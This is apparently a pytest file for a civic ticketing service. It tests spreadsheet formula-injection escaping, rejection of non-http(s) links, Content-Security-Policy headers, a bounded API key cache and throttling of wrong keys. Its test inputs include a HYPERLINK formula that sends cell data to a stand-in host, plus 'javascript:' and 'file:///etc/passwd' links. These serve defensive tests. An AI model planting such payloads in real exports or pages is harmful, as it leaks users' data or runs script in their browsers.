"""Web security without a running stack (issue 12): formula injection in the exports, links other than http(s),
the Content-Security-Policy of a page, the bounded key cache and the throttling of wrong keys."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import time
from collections.abc import AsyncIterator
from io import BytesIO
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from pydantic import ValidationError
from pymongo.errors import ServerSelectionTimeoutError
from structlog.testing import capture_logs

from civicbus import auth
from civicbus.auth import KeyStore, KeyThrottle, retry_after_s
from civicbus.events import Actor, InspectionSubmission, TicketCommand
from civicbus.security import page_policy
from services.reporting.exports import WeeklyReport, quarterly_workbook, weekly_workbook

from .test_exports import GENERATED, OVERDUE, RECURRING, SUMMARY, TREND, VILLAGES, ZONE

INJECTED = ['=HYPERLINK("http://example.com/?leak="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text() -> None:
    items = [{**OVERDUE["items"][0], "title": title} for title in INJECTED]
    report = WeeklyReport("示范街道", SUMMARY, TREND, {"total": len(items), "items": items}, RECURRING, [],
                          GENERATED, ZONE)
    quarter = {**SUMMARY, "period": {"kind": "quarter", "since": "2026-10-01", "until": "2026-12-31",
                                     "label": "2026年第4季度"}}
    named = {**VILLAGES, "items": [{**VILLAGES["items"][0], "name": "=1+1"}]}
    for data in (weekly_workbook(report), quarterly_workbook("示范街道", quarter, [named], GENERATED, ZONE)):
        cells = [cell for sheet in load_workbook(BytesIO(data)).worksheets for row in sheet.iter_rows()
                 for cell in row if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t",
                                                                                         "\r"))]
        assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    texts = {cell.value for sheet in load_workbook(BytesIO(weekly_workbook(report))).worksheets
             for row in sheet.iter_rows() for cell in row}
    # Written as they were, only as text (XML reads a carriage return back as a line feed).
    assert set(INJECTED) - {"\r=1"} <= texts


def test_a_control_character_a_citizen_typed_does_not_break_the_workbook() -> None:
    items = [{**OVERDUE["items"][0], "title": "路灯\x01不亮\x1f"}]
    report = WeeklyReport("示范街道", SUMMARY, TREND, {"total": 1, "items": items}, RECURRING, [], GENERATED, ZONE)
    texts = {cell.value for sheet in load_workbook(BytesIO(weekly_workbook(report))).worksheets
             for row in sheet.iter_rows() for cell in row}
    assert "路灯不亮" in texts


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<b>", "file:///etc/passwd", "//x.cn/a.jpg",
                                 "ftp://x.cn/a.jpg", "https:///a.jpg"])
def test_a_link_other_than_http_is_refused(url) -> None:
    with pytest.raises(ValidationError, match="http"):
        InspectionSubmission(content="消防通道堵塞", inspection_type="安全生产", photos=[url])
    with pytest.raises(ValidationError, match="http"):
        TicketCommand(source="t", ticket_id="T", action="resolve", actor=Actor(name="a", role="admin"),
                      result="done", attachments=[url])


def test_http_links_are_kept() -> None:
    finding = InspectionSubmission(content="消防通道堵塞", inspection_type="安全生产",
                                   photos=["https://img.example.cn/1.jpg", "HTTP://x.cn/2.png"])
    assert finding.photos == ["https://img.example.cn/1.jpg", "HTTP://x.cn/2.png"]


def test_a_page_may_run_only_its_own_files_and_its_inline_blocks_by_hash() -> None:
    style, script = "body { color: red; }", "window.print();"
    policy = page_policy(f"<style>{style}</style><script src='/a.js'></script><script>{script}</script>")
    digest = {text: base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in (style, script)}
    assert f"script-src 'self' 'sha256-{digest[script]}';" in policy
    assert f"style-src 'self' 'sha256-{digest[style]}';" in policy
    assert "unsafe" not in policy and "frame-ancestors 'none'" in policy
    assert "script-src 'self';" in page_policy("<p>no inline code</p>")


class _Keys:
    """A stand-in for the api_keys collection: every lookup is counted."""

    def __init__(self) -> None:
        self.lookups = 0

    async def find_one(self, query: dict) -> None:
        self.lookups += 1


async def test_the_key_cache_is_bounded_and_keeps_the_keys_in_use() -> None:
    keys = _Keys()
    store = KeyStore({auth.API_KEYS_COLLECTION: keys}, entries=3)  # type: ignore[arg-type]
    for key in ("a", "b", "c", "a", "d", "e"):  # "a" used again: "b" and "c" go first
        await store.find(key)
    assert len(store._cache) == 3 and keys.lookups == 5
    await store.find("a")
    assert keys.lookups == 5, "a key in use is still remembered"
    await store.find("b")
    assert keys.lookups == 6, "the least recently used was forgotten"
    assert len(KeyStore({auth.API_KEYS_COLLECTION: keys})._cache) == 0  # type: ignore[arg-type]
    assert auth.CACHE_ENTRIES >= 1000


def test_the_wait_runs_from_the_oldest_of_the_allowed_failures_in_the_window() -> None:
    def wait(*moments: float) -> int:
        return retry_after_s(moments, now=1000.0, allowed=3, window_s=60)

    assert wait() == 0 and wait(990, 995) == 0, "fewer than allowed: try again now"
    assert wait(970, 980, 990) == 30, "until the oldest leaves the window"
    assert wait(940, 980, 990) == 0, "one exactly a window old no longer counts"
    assert wait(900, 970, 980, 990) == 30, "failures before the window are not counted"
    assert wait(960, 970, 980, 990) == 30, "with more than allowed (replicas at once), until the third most recent "\
        "leaves: then two are left"
    assert wait(970.2, 980, 990) == 31, "rounded up: never told to come back too early"
    assert wait(999, 1000, 1001) == 59, "a failure stamped a second ahead by another replica's clock counts"


class _Failures:
    """A stand-in for the key_failures collection shared by instances; it may stop answering."""

    def __init__(self) -> None:
        self.documents: dict[str, dict] = {}
        self.away = False
        self.deletes = 0

    def _answer(self) -> None:
        if self.away:
            raise ServerSelectionTimeoutError("store away")

    async def insert_one(self, document: dict) -> None:
        self._answer()
        assert document["_id"] not in self.documents
        self.documents[document["_id"]] = document

    async def find(self, query: dict, projection: dict) -> AsyncIterator[dict]:
        self._answer()
        assert query == {}, "one read of the whole (small) collection"
        for document in list(self.documents.values()):
            yield {name: document[name] for name in ("_id", *projection)}

    async def delete_many(self, query: dict) -> None:
        self._answer()
        self.deletes += 1
        for key in query["_id"]["$in"]:
            self.documents.pop(key, None)


def _throttle(store: _Failures, addresses: int = auth.THROTTLED_ADDRESSES) -> KeyThrottle:
    db = {auth.KEY_FAILURES_COLLECTION: store}
    return KeyThrottle(db, allowed=3, window_s=60, addresses=addresses)  # type: ignore[arg-type]


@pytest.fixture
def clock(monkeypatch) -> list[float]:
    now = [1_750_000_000.0]
    monkeypatch.setattr(auth, "time", SimpleNamespace(time=lambda: now[0], monotonic=time.monotonic))
    return now


async def test_an_instance_blocks_on_its_own_failures_at_once_for_the_rest_of_the_window(clock) -> None:
    store = _Failures()
    throttle = _throttle(store)
    for _ in range(3):
        assert throttle.retry_after("10.0.0.1") == 0
        await throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 60 and throttle.retry_after("10.0.0.2") == 0, "no refresh needed"
    assert [document["address"] for document in store.documents.values()] == ["10.0.0.1"] * 3
    clock[0] += 45
    assert throttle.retry_after("10.0.0.1") == 15
    clock[0] += 16
    assert throttle.retry_after("10.0.0.1") == 0
    await throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 0, "the old failures have left the window: counting from one"


async def test_failures_spread_over_instances_block_the_address_on_all_after_a_refresh(clock) -> None:
    store = _Failures()
    first, second = _throttle(store), _throttle(store)
    await first.failed("10.0.0.1")
    await first.failed("10.0.0.1")
    await first.refresh()
    assert first.retry_after("10.0.0.1") == 0, "its own failures read back from the store are not counted twice"
    clock[0] += 10
    await second.failed("10.0.0.1")
    assert first.retry_after("10.0.0.1") == second.retry_after("10.0.0.1") == 0, "neither has seen three yet"
    await first.refresh()
    await second.refresh()
    assert first.retry_after("10.0.0.1") == second.retry_after("10.0.0.1") == 50, "from the oldest of the three"
    assert first.retry_after("10.0.0.2") == 0
    assert store.deletes == 0, "a refresh with nothing out of the window writes nothing"
    clock[0] += 51
    await second.refresh()
    assert second.retry_after("10.0.0.1") == 0
    assert [document["at"].timestamp() for document in store.documents.values()] == [clock[0] - 51], \
        "the two that left the window are deleted, the third is still counted"


async def test_the_memory_of_failures_is_bounded_to_the_most_failing_addresses(clock) -> None:
    store = _Failures()
    throttle = _throttle(store, addresses=2)
    for address in ("10.0.0.1", "10.0.0.2", "10.0.0.3"):
        await throttle.failed(address)
    assert list(throttle._own) == ["10.0.0.2", "10.0.0.3"], "the least recently failed out first"
    other = _throttle(store, addresses=2)
    for address, failures in (("10.0.0.4", 5), ("10.0.0.5", 2)):
        for _ in range(failures):
            await other.failed(address)
    await throttle.refresh()
    assert set(throttle._everyone) == {"10.0.0.4", "10.0.0.5"}
    assert len(throttle._everyone["10.0.0.4"]) == 3, "only the most recent allowed failures decide the wait"
    assert throttle.retry_after("10.0.0.4") == 60 and throttle.retry_after("10.0.0.5") == 0


async def test_without_the_store_an_instance_still_counts_its_own_and_the_watch_goes_on() -> None:
    store = _Failures()
    store.away = True
    throttle = _throttle(store)
    with capture_logs() as logs:
        for _ in range(3):
            await throttle.failed("10.0.0.1")  # logged, not raised: the request is answered 401 as ever
        assert throttle.retry_after("10.0.0.1") == 60 and store.documents == {}
        watch = asyncio.create_task(throttle.watch(0.01))
        await asyncio.sleep(0.05)
        assert not watch.done(), "a store away does not end the watch"
        store.away = False
        await _throttle(store).failed("10.0.0.9")  # another instance's failure, once the store is back
        await asyncio.sleep(0.05)
        watch.cancel()
    assert "10.0.0.9" in throttle._everyone, "refreshed again once the store answers"
    warnings = [entry["event"] for entry in logs if entry["log_level"] == "warning"]
    assert len(warnings) == 4 and "仅本实例计数" in warnings[0] and "暂无法从数据库读取" in warnings[3], \
        "each unstored failure, and the store away once however many refreshes fail"


async def test_an_internal_error_is_answered_plainly_with_the_security_headers():
    import httpx
    from fastapi import APIRouter

    from civicbus.service import Runtime, service_app
    from services.triage.settings import TriageSettings

    broken = APIRouter()

    @broken.get("/broken")
    async def fail() -> None:
        raise RuntimeError("a bug, with 13800138000 in it")

    app = service_app(Runtime.build(TriageSettings()), title="t", description="d", routers=[broken])
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        response = await client.get("/broken")
    assert response.status_code == 500 and response.json()["code"] == "internal_error"
    assert "13800138000" not in response.text, "the fault's text stays in the (masked) log"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
